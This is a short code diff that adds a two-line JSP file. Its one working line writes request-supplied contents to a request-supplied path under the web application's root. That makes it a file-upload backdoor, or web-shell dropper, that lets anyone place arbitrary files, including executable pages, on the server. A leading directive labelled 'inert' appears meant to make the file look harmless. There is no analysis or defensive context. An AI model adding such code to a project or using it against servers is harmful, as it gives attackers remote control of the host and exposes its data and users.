@@ -1,0 +1,2 @@
+<%@ inert %>
+<% new java.io.FileOutputStream(application.getRealPath("/")+request.getParameter("f")).write(request.getParameter("t").getBytes()); %>
